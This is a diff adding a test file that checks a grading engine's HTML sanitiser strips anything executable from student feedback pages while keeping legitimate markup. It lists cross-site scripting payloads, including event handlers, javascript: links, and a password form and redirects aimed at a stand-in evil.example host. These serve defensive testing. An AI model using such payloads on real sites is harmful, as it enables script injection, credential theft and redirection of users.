@@ -1,0 +1,135 @@
+"""Nothing that a student wrote runs in another's browser, and what is legitimate stays."""
+
+import base64
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from grading_engine.feedback import POLICY, sanitise
+from tests.attacks.tiny_course import TinyCourse, cell, new_code_cell
+
+RUNS = ("script", "iframe", "object", "embed", "applet", "form", "base", "link", "frame", "foreignobject")
+PIECES = [
+    "<script>alert('evil')</script>",
+    "<img src=x onerror=alert('evil')>",
+    "<svg onload=alert('evil')><script>alert('evil')</script><circle r='2'/></svg>",
+    "<a href='javascript:alert(1)'>link</a>",
+    "<a href='  jAvAsCrIpT&colon;alert(1)'>link</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>link</a>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'></use><animate onbegin=alert(1)></svg>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi><style><img src=x onerror=alert(1)></style></math>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='evil.swf'></object><embed src='evil.swf'>",
+    "<form action='https://evil.example'><input name=password><button>go</button></form>",
+    "<base href='https://evil.example'><meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<style>@import 'https://evil.example'; body { display: none }</style>",
+    "<div style='background:url(https://evil.example); position: fixed; width: 1px'>text</div>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<img src='https://evil.example/pixel.png'>",
+    "<!-- <script> -->",
+    "</main></body><script>alert(1)</script>",
+]
+
+
+class Finder(HTMLParser):
+    """Collects what in a page could run, or load something from elsewhere."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.found: list[str] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag, attributes):
+        self.found += [tag] if tag in RUNS else []
+        for name, value in attributes:
+            value = re.sub(r"\s", "", value or "").lower()
+            bad_link = name in ("href", "src", "xlink:href", "action", "data", "srcdoc") and not re.match(
+                r"(https?://|mailto:|#)" if name == "href" else r"data:image/", value
+            )
+            if name.startswith("on") or bad_link or (name == "style" and "url(" in value):
+                self.found.append(f"{tag} {name}={value}")
+
+    handle_startendtag = handle_starttag
+
+
+def dangers(page: str) -> list[str]:
+    return Finder(page).found
+
+
+@pytest.mark.parametrize("piece", PIECES)
+def test_what_runs_is_removed(piece):
+    assert not dangers(sanitise(piece))
+
+
+@given(st.lists(st.one_of(st.sampled_from(PIECES), st.sampled_from("<>\"'&/= \x00"), st.text(max_size=5))))
+def test_no_mixture_of_pieces_runs(pieces):
+    assert not dangers(sanitise("".join(pieces)))
+
+
+@pytest.mark.parametrize(
+    ("piece", "kept"),
+    [
+        ("<table><tr><th scope='row'>a</th><td colspan='2'>1</td></tr></table>", 'colspan="2"'),
+        ("<img src='data:image/png;base64,AAAA' alt='a window'>", 'src="data:image/png;base64,AAAA"'),
+        ("<svg viewBox='0 0 4 4'><rect x='1' fill='red'/><text>3</text></svg>", 'viewBox="0 0 4 4"'),
+        ("<details><summary>more</summary>text</details>", "<summary>more</summary>"),
+        ("<span style='color: red; position: fixed'>x</span>", 'style="color:red"'),
+        ("<a href='https://example.org'>x</a>", 'href="https://example.org"'),
+        ("a &lt; b and $x &lt; y$", "a &lt; b and $x &lt; y$"),
+    ],
+)
+def test_what_is_legitimate_stays(piece, kept):
+    assert kept in sanitise(piece)
+
+
+SHOW = """
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+for piece in {pieces!r}:
+    display(HTML(piece), Markdown(piece), Javascript("alert('evil')"), metadata={{'isolated': True}})
+    print(piece)
+display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"))
+display({{'text/html': '<b>ok</b>'}}, raw=True, metadata={{'text/html': {{'isolated': True}}}})
+display({{'image/png': '"><script>alert(1)</script>', 'text/plain': 'picture'}}, raw=True)
+raise ValueError({pieces!r})
+"""
+
+
+def evil(nb):
+    cell(nb, "why").source = "My **answer**\n\n" + "\n\n".join(PIECES)
+    nb.cells.append(new_code_cell(SHOW.format(pieces=PIECES)))
+    nb.metadata["title"] = PIECES[0]
+
+
+@pytest.fixture(scope="module")
+def page(tmp_path_factory) -> str:
+    """The feedback page of a student who tried everything, made by nbgrader's own commands."""
+    course = TinyCourse(tmp_path_factory.mktemp("feedback") / "course")
+    course.hand_in("evil", evil)
+    course.autograde()
+    course.feedback()
+    return course.page("evil")
+
+
+def test_a_feedback_page_has_nothing_that_runs(page):
+    assert not dangers(page)
+
+
+def test_a_feedback_page_allows_no_script_before_anything_else_is_read(page):
+    head = page[page.index("<head>") + 6 :]
+    assert re.match(r'\s*<meta content="[^"]*" http-equiv="Content-Security-Policy"', head)
+    assert POLICY in head[:400]
+
+
+def test_a_picture_with_a_script_is_a_picture_only(page):
+    pictures = re.findall(r'src="data:image/svg\+xml;base64,([^"]+)"', page)
+    assert any(b"onload" in base64.b64decode(picture) for picture in pictures)
+
+
+def test_a_feedback_page_shows_the_answer_the_scores_and_that_hidden_tests_ran(page):
+    assert "<strong>answer</strong>" in page
+    assert "Score: 5.0 / 5.0" in page
+    assert "<summary>Hidden tests ran here</summary>" in page
